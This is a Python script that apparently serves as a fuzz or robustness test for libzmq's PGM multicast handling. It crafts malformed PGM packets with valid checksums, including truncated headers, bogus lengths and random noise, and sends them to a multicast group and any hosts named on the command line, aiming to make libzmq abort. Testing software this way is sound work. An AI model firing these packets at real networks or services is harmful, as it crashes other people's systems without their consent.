"""Sends what no libzmq sends to a multicast group, and to some hosts; run on a host by its Python.

    python3 hostile_multicast.py INTERFACE GROUP PORT [HOST]…

First what makes a libzmq abort that is not shielded, then noise, and headers of PGM of each type
(RFC 3208, section 8) with nothing right behind them.
"""

from __future__ import annotations

import random
import socket
import struct
import sys
from collections.abc import Iterator

WINDOW = struct.pack("!II", 7, 1)
"""Of a packet with data: its number, and that of the window's end."""


def packet(rng: random.Random, port: int, kind: int, size: int, body: bytes) -> bytes:
    """Give a packet of PGM, with the right checksum."""
    head = struct.pack("!HHBB", 1, port, kind, 0)
    rest = rng.randbytes(6) + struct.pack("!H", size) + body
    whole = head + bytes(2) + rest + bytes(len(rest) % 2)
    total = sum(struct.unpack(f"!{len(whole) // 2}H", whole))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return head + struct.pack("!H", ~total & 0xFFFF) + rest


def hostile(port: int) -> Iterator[bytes]:
    """Give the datagrams."""
    rng = random.Random(1)
    yield b""
    yield packet(rng, port, 4, 0, WINDOW)
    yield packet(rng, port, 4, 1, WINDOW + b"x")
    yield packet(rng, port, 4, 5, WINDOW + struct.pack("!H", 5000) + b"abc")
    for kind in range(16):
        for size in (0, 1, 8, 20, 40):
            yield packet(rng, port, kind, size, rng.randbytes(size))
    for size in (1, 15, 16, 40, 1400, 9000):
        for kind in range(16):
            yield struct.pack("!HHB", 1, port, kind) + rng.randbytes(size)
            yield rng.randbytes(size)


def main(interface: str, group: str, port: str, *hosts: str) -> None:
    """Send all of them to everybody."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
        own = socket.inet_aton(interface)
        sock.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_IF, own)
        for data in hostile(int(port)):
            for host in (group, *hosts):
                sock.sendto(data, (host, int(port)))


if __name__ == "__main__":
    main(*sys.argv[1:])
